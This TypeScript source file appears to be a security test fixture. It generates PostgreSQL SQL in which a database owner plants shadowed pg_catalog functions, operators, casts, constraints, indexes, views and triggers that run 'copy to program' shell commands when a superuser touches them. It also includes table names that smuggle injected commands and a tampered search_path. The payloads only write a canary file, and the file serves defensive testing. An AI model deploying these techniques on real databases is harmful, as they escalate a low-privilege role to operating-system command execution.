/** What a statement of the superuser leaves on the host when it ran what role valence had put in its way: who ran what. */
export const sprung = '/tmp/sprung'

/** A shadow of a function of PostgreSQL that gives the right answer, after it has tried to use its caller's rights. */
const shadow = (name: string, types: readonly string[], returns: string, casts = types) =>
  `create function public.${name}(${types.join(', ')}) returns ${returns} language plpgsql as $f$
begin perform public.spring('${name}'); return pg_catalog.${name}(${casts.map((type, index) => `$${index + 1}::${type}`).join(', ')}); end $f$;`

const operator = (sign: string, name: string, left: string, right: string, returns: string) =>
  `create function public.${name}(a ${left}, b ${right}) returns ${returns} language plpgsql as $f$
begin perform public.spring('operator ${sign}'); return a operator(pg_catalog.${sign}) b; end $f$;
create operator public.${sign} (leftarg = ${left}, rightarg = ${right}, function = public.${name});`

/**
 * SQL of role valence, the owner of the database, that lies in wait for the superuser: functions, operators, casts,
 * triggers, constraints, indexes, views, names and settings. Whatever runs as a superuser notes itself in {@link sprung}.
 */
export const hostile = `
create table public.users (name text, password_hash text);
create table public.applied_schema_deltas (version int); create table public.schema_version (version int);
create function public.spring(via text) returns boolean language plpgsql as $f$
begin
  if (select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) current_user) then
    execute pg_catalog.concat('copy (select 1) to program ''cat >/dev/null; echo "', via, ' as $(id -un)" >>${sprung}''');
  end if;
  return true;
end $f$;
${shadow('row_to_json', ['public.users'], 'json')}
${shadow('format', ['text', 'name', 'name'], 'text', ['text', 'text', 'text'])}
${shadow('current_setting', ['text'], 'text')}
${shadow('to_regclass', ['text'], 'regclass')}
${shadow('pg_get_userbyid', ['oid'], 'name')}
${shadow('substr', ['text', 'int'], 'text')}
${shadow('strpos', ['text', 'text'], 'int')}
${shadow('now', [], 'timestamptz')}
${operator('~', 'matches', 'name', 'text', 'boolean')}
${operator('!~', 'differs', 'name', 'text', 'boolean')}
${operator('=', 'same_name', 'name', 'name', 'boolean')}
${operator('=', 'same', 'name', 'text', 'boolean')}
${operator('||', 'joined', 'text', 'text', 'text')}
create type public.pair as (a int);
create function public.pair_text(public.pair) returns text language plpgsql as $f$
begin perform public.spring('cast'); return 'pair'; end $f$;
create cast (public.pair as text) with function public.pair_text(public.pair) as implicit;
create domain public.word as text check (public.spring('domain'));
create table public.bait (id int check (public.spring('check')), note public.word, two public.pair);
insert into public.bait values (1, 'one', row(1));
create function public.cold() returns int immutable language plpgsql as $f$
begin perform public.spring('index'); return 1; end $f$;
create index on public.bait ((public.cold() + id));
create view public.lure as select public.spring('view') as sprung, public.bait.id from public.bait;
create function public.on_row() returns trigger language plpgsql as $f$
begin perform public.spring('trigger'); return coalesce(new, old); end $f$;
create trigger lure before update or delete on public.users for each row execute function public.on_row();
create function public.on_ddl() returns event_trigger language plpgsql as $f$
begin perform public.spring('event trigger'); end $f$;
create table public."$manifest$;copy(select'')to program'id>${sprung}'--" (id int);
create table public."$m$;copy(select'')to program'id>${sprung}'--" (id int);
update infra.applied set objects = pg_catalog.array_append(objects, 'function pg_catalog.pg_read_file');
alter database valence set search_path = public, pg_catalog;
alter role valence set search_path = public, pg_catalog;
alter database valence set standard_conforming_strings = off;
`

/** What valence cannot do, and an earlier restore by the superuser may have: its function fired by each DDL. */
export const eventTrigger = 'create event trigger lure on ddl_command_start execute function public.on_ddl()'
